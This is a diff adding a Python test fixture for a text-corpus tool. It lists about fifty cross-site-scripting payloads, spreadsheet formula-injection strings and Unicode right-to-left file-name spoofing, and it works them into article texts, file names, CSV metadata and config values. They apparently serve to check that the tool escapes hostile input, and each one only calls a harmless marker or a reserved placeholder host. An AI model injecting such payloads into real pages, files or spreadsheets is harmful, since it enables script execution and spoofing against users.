@@ -1,0 +1,115 @@
+"""Texts that try to get out of the text: what a corpus may hold by accident or by malice.
+
+Each payload that runs calls ``ran()`` or asks for something under `ELSEWHERE`, which a browser test would see.
+"""
+
+ELSEWHERE = "http://elsewhere.invalid"
+PAYLOADS = [
+    "<script>ran()</script>",
+    "<SCRIPT SRC=http://elsewhere.invalid/x.js></SCRIPT>",
+    "<scr<script>ipt>ran()</scr</script>ipt>",
+    "</script><script>ran()</script>",
+    "</style><script>ran()</script>",
+    "</title><script>ran()</script>",
+    "</textarea><script>ran()</script>",
+    "--><script>ran()</script><!--",
+    "]]><script>ran()</script>",
+    "<img src=x onerror=ran()>",
+    '"><img src=x onerror=ran()>',
+    "'><img src=x onerror=ran()>",
+    '" onmouseover="ran()" x="',
+    "' onfocus='ran()' autofocus='",
+    "<img src=http://elsewhere.invalid/p.png>",
+    "<svg onload=ran()>",
+    "<svg><script>ran()</script></svg>",
+    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
+    "<math><mtext><script>ran()</script></mtext></math>",
+    "<body onload=ran()>",
+    "<iframe src=javascript:ran()></iframe>",
+    "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
+    "<object data=http://elsewhere.invalid/o></object>",
+    "<embed src=http://elsewhere.invalid/e>",
+    "<link rel=stylesheet href=http://elsewhere.invalid/s.css>",
+    "<style>@import 'http://elsewhere.invalid/i.css';</style>",
+    "<style>*{background:url(http://elsewhere.invalid/b)}</style>",
+    "<div style=background:url(http://elsewhere.invalid/d)>x</div>",
+    "<meta http-equiv=refresh content='0;url=http://elsewhere.invalid/m'>",
+    "<base href=http://elsewhere.invalid/>",
+    "<form action=http://elsewhere.invalid/f><input autofocus onfocus=ran()></form>",
+    "<video poster=http://elsewhere.invalid/v><source onerror=ran()></video>",
+    "<audio src=x onerror=ran()></audio>",
+    "<details open ontoggle=ran()>x</details>",
+    "<marquee onstart=ran()>x</marquee>",
+    "<input type=image src=x onerror=ran()>",
+    "<a href=javascript:ran()>x</a>",
+    "<a href=data:text/html,<script>ran()</script>>x</a>",
+    "[x](javascript:ran())",
+    "![x](http://elsewhere.invalid/md.png)",
+    "<http://elsewhere.invalid/auto>",
+    "${ran()} {{ ran() }} {% ran() %} #{ran()}",
+    "$\\href{javascript:ran()}{x}$ and \\(x\\) and $$y$$",
+    "`<script>ran()</script>`",
+    "&lt;script&gt;ran()&lt;/script&gt;",
+    "&#60;script&#62;ran()&#60;/script&#62;",
+    "<template><script>ran()</script></template>",
+    "<noscript><img src=x onerror=ran()></noscript>",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script>",
+    "<mark>⟦<script>ran()</script>⟧</mark>",
+]
+FORMULAS = ["=HYPERLINK(1)", "+1+cmd", "-2+3", "@SUM(1)", "\t=1"]
+UNSEEN = "\u202etxt.exe\u202c \u2066x\u2069 \x07bell"
+
+
+def articles() -> dict[str, str]:
+    """File name → text: each payload in own words, quoted, and reported, in several articles."""
+    told = [
+        f"The port said “Number {k} {text} stays” and the wildcat strike {text} may go on."
+        for k, text in enumerate(PAYLOADS)
+    ]
+    thirds = [told[k::3] for k in range(3)]
+    texts = [
+        "\n\n".join([PAYLOADS[k] + " port", *lines, f"It may rain, {UNSEEN} said."]) for k, lines in enumerate(thirds)
+    ]
+    names = ["a<img src=x onerror=ran()>.txt", "b'\"&$x$.txt", "c\u202etxt.txt"]
+    return dict(zip(names, texts, strict=True))
+
+
+def metadata() -> list[dict[str, str]]:
+    """The rows of metadata.csv: hostile ids, outlets, headlines and columns of one's own."""
+    return [
+        {
+            "file": name,
+            "article_id": f"{PAYLOADS[k]}{k}",
+            "outlet": [PAYLOADS[10], FORMULAS[0], UNSEEN][k],
+            "headline": f"{PAYLOADS[k + 20]} wildcat strike",
+            "section": PAYLOADS[k + 30],
+            "author": FORMULAS[k],
+            "url": "javascript:ran()",
+            "outlet_evidence": PAYLOADS[k + 5],
+        }
+        for k, name in enumerate(articles())
+    ]
+
+
+STUDY = {
+    "title": "The strike <script>ran()</script> \u202e & </title>",
+    "corpus": "texts",
+    "phrase": "wildcat strike",
+    "variants": ["brief <img src=x onerror=ran()> walkout", "it $x$ may"],
+    "phrases": {"<svg onload=ran()> rain": []},
+    "actors": {"<b onclick=ran()>The port": ["port"]},
+    "lexicons": "lists",
+    "seed": 1,
+}
+LEXICON = """\
+[about]
+title = "<script>ran()</script>"
+source = "own"
+url = "javascript:ran()"
+licence = "none"
+retrieved = "2026-01-01"
+changes = "none"
+
+[kind]
+terms = ["number", "stays"]
+"""
